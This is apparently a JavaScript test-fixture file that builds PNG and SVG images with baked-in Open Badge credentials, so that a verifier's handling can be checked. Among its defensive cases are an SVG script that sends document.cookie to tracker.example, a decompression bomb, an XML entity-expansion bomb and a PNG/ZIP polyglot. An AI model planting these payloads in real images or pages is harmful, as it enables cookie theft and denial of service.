// Badges inside pictures. The chunks are written by png-itxt; what no baker
// writes is cut and pasted from its pictures.
import {deflateSync, crc32} from 'node:zlib';
import pngItxt from 'png-itxt';
import {badge} from '../content.mjs';
import {didKey} from '../keys.mjs';
import {dataIntegrity, jwtBadge} from '../sign.mjs';
import {ends, file, scenario} from '../registry.mjs';

const p256 = 'university-p256', ed = 'university-ed25519';
const keyword = 'openbadgecredential';

const sum = data => {
  if (crc32) return crc32(data);
  let c = ~0;
  for (const byte of data) {
    c ^= byte;
    for (let i = 0; i < 8; i++) c = (c >>> 1) ^ (c & 1 ? 0xedb88320 : 0);
  }
  return ~c >>> 0;
};
const be = n => { const four = Buffer.alloc(4); four.writeUInt32BE(n); return four; };
const chunk = (type, data) => Buffer.concat([be(data.length), Buffer.from(type), data, be(sum(Buffer.concat([Buffer.from(type), data])))]);

// A green square of 64 by 64, to bake into.
export const plain = Buffer.concat([
  Buffer.from('89504e470d0a1a0a', 'hex'), chunk('IHDR', Buffer.from('00000040000000400802000000', 'hex')),
  chunk('IDAT', deflateSync(Buffer.concat(Array.from({length: 64}, (_, y) => Buffer.concat([Buffer.from([0]), ...Array.from({length: 64}, (_, x) => Buffer.from([x, 150, y]))]))))),
  chunk('IEND', Buffer.alloc(0)),
]);

export const bake = (picture, data) => new Promise((done, failed) => {
  const parts = [], baker = pngItxt.set({type: 'iTXt', keyword, ...data});
  baker.on('data', part => parts.push(part));
  baker.on('end', () => done(Buffer.concat(parts)));
  baker.on('error', failed);
  baker.end(picture);
});
// again puts the chunk of one picture into another one, before its end.
const again = (picture, other) => Buffer.concat([picture.subarray(0, -12), other.subarray(plain.length - 12, -12), picture.subarray(-12)]);

const signed = (claims = {}) => dataIntegrity(badge(didKey(ed), claims), ed);
const json = async claims => JSON.stringify(await signed(claims));
const token = () => jwtBadge(badge(didKey(p256)), p256);

const good = (...codes) => ends.verified(['trust.listed', 'envelope.picture_unsigned', ...codes], {envelope: 'warn'});
const png = (name, about, make, end) => scenario(`picture-${name}`, about, file(`picture-${name}.png`, make), end);
const svg = (name, about, make, end) => scenario(`drawing-${name}`, about, file(`drawing-${name}.svg`, make), end);

png('json', 'an Open Badge as JSON in a PNG, as the specification asks',
  async () => bake(plain, {value: await json()}), good('envelope.baked_png', 'envelope.json', 'proof.data_integrity'));
png('jwt', 'an Open Badge as a token in a PNG',
  async () => bake(plain, {value: await token()}), good('envelope.baked_png', 'envelope.jws_compact', 'proof.jws'));
png('scripts', 'names in many scripts and braces in texts survive: an iTXt chunk is UTF-8',
  async () => bake(plain, {value: await json({name: 'Böden & Daten «Почва» 土壤 🌱 } {"', description: '}}'}), language: 'de', translated: 'Abzeichen für Mikronachweise'}),
  good('envelope.baked_png', 'envelope.json'));
png('old-keyword', 'an Open Badge 3.0 under the keyword of version 2: the issuer\'s baker was older than the badge',
  async () => bake(plain, {keyword: 'openbadges', value: await token()}), good('envelope.baked_png', 'credential.open_badge_3'));
png('record-keyword', 'a credential under the keyword of learner records',
  async () => bake(plain, {keyword: 'clrcredential', value: await json()}), good('envelope.baked_png'));
png('compressed', 'a compressed iTXt chunk, which the specification forbids: read, with a remark',
  async () => bake(plain, {value: await json(), compressed: true}), good('envelope.baked_png', 'envelope.baked_compressed'));
png('ztxt', 'a zTXt chunk, which no reader looks for: read, with remarks',
  async () => bake(plain, {type: 'zTXt', value: await token()}), good('envelope.baked_png', 'envelope.baked_compressed', 'envelope.baked_unusual'));
png('keyword-capitals', 'a keyword in capitals',
  async () => bake(plain, {keyword: 'OpenBadgeCredential', value: await token()}), good('envelope.baked_unusual'));
png('altered', 'a badge that was changed inside of its picture',
  async () => bake(plain, {value: (await json()).replace('Soil', 'Silk').replace('2026', '2025')}), ends.altered({envelope: 'warn'}));
png('not-signed', 'a badge in a picture that nobody has signed',
  () => bake(plain, {value: JSON.stringify(badge(didKey(ed)))}), ends.notSigned(['envelope.baked_png', 'proof.none'], {envelope: 'warn'}));
png('link', 'a picture that holds only an address, and one that is never asked',
  () => bake(plain, {type: 'tEXt', keyword: 'openbadges', value: 'https://192.168.0.1/assertions/4f2a'}), ends.unreadable('envelope.baked_png', 'envelope.baked_link'));
png('two', 'two badges in one picture: two readers could see two different ones (T34)',
  async () => again(await bake(plain, {value: await json()}), await bake(plain, {value: await token()})), ends.unreadable('envelope.baked_several'));
png('two-keywords', 'a badge of version 2 and one of version 3 in one picture',
  async () => bake(await bake(plain, {value: await json()}), {keyword: 'openbadges', value: '{}'}), ends.unreadable('envelope.baked_several'));
png('checksum', 'a picture in which a byte was changed without its checksum',
  async () => { const baked = await bake(plain, {value: await json()}); baked[baked.indexOf('university')] ^= 1; return baked; }, ends.unreadable('envelope.picture_damaged'));
png('truncated', 'a picture of which the end is missing',
  async () => (await bake(plain, {value: await json()})).subarray(0, plain.length + 100), ends.unreadable('envelope.picture_truncated'));
png('length', 'a chunk that says it has 200 MB in a small file (T12)',
  async () => { const baked = await bake(plain, {value: await json()}); baked.writeUInt32BE(200e6, plain.length - 12); return baked; }, ends.unreadable('envelope.picture_truncated'));
png('bomb', 'a chunk of some KB that becomes 64 MB (T12)',
  () => bake(plain, {value: '0'.repeat(64 << 20), compressed: true}), ends.unreadable('envelope.baked_too_large'));
png('archive', 'a picture that is an archive as well (T34)',
  async () => Buffer.concat([await bake(plain, {value: await json()}), Buffer.from('PK\x05\x06' + '\0'.repeat(18), 'latin1')]), ends.refusedEnvelope('envelope.picture_trailing'));
png('without', 'a picture whose only text is about the program that made it',
  () => bake(plain, {type: 'tEXt', keyword: 'Software', value: 'openbadgecredential {}'}), ends.unreadable('envelope.png'));

const draw = (content, root = '') => `<?xml version="1.0" encoding="UTF-8"?>
<svg xmlns="http://www.w3.org/2000/svg" xmlns:openbadges="https://purl.imsglobal.org/ob/v3p0" viewBox="0 0 64 64"${root}>
  ${content}
  <circle cx="32" cy="32" r="30" fill="#096"/>
</svg>
`;
svg('jwt', 'an Open Badge as a token in an SVG, as the specification asks',
  async () => draw(`<openbadges:credential verify="${await token()}"></openbadges:credential>`), good('envelope.baked_svg', 'envelope.jws_compact'));
svg('json', 'an Open Badge as JSON in an SVG',
  async () => draw(`<openbadges:credential>\n    <![CDATA[\n      ${JSON.stringify(await signed({name: 'Böden <& Daten> ]] 土壤'}), null, 2)}\n    ]]>\n  </openbadges:credential>`), good('envelope.baked_svg', 'envelope.json'));
svg('script', 'a drawing with scripts and an address of pictures elsewhere: nothing of it runs or is asked for, the badge is read',
  async () => draw(`<script>fetch('https://tracker.example/?' + document.cookie)</script><image href="https://tracker.example/pixel.png"/><openbadges:credential verify="${await token()}"/>`, ' onload="alert(1)"'), good('envelope.baked_svg'));
svg('doctype', 'a drawing with the document type of SVG 1.1, which nobody reads',
  async () => draw(`<openbadges:credential verify="${await token()}"/>`).replace('?>\n', '?>\n<!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" "http://www.w3.org/Graphics/SVG/1.1/DTD/svg11.dtd">\n'), good('envelope.baked_svg'));
svg('comment', 'a second badge that stands in a comment is none',
  async () => { const one = await token(); return draw(`<!-- <openbadges:credential verify="${one}"/> --><openbadges:credential verify="${one}"/>`); }, good('envelope.baked_svg'));
svg('two', 'two badges in one drawing (T34)',
  async () => { const one = await token(); return draw(`<openbadges:credential verify="${one}"/><openbadges:credential verify="${one}"/>`); }, ends.unreadable('envelope.baked_several'));
svg('both', 'a token in the attribute and another badge in the element (T34)',
  async () => draw(`<openbadges:credential verify="${await token()}"><![CDATA[${await json()}]]></openbadges:credential>`), ends.unreadable('envelope.baked_several'));
svg('definitions', 'a drawing that defines words which grow (T12)',
  async () => draw('<openbadges:credential>&c;</openbadges:credential>').replace('?>\n', '?>\n<!DOCTYPE svg [<!ENTITY a "{}{}{}{}"><!ENTITY b "&a;&a;&a;&a;&a;&a;"><!ENTITY c "&b;&b;&b;&b;&b;">]>\n'), ends.unreadable('envelope.svg_definitions'));
svg('truncated', 'a drawing of which the end is missing',
  async () => draw(`<openbadges:credential verify="${await token()}"/>`).slice(0, 500), ends.unreadable('envelope.svg_malformed'));
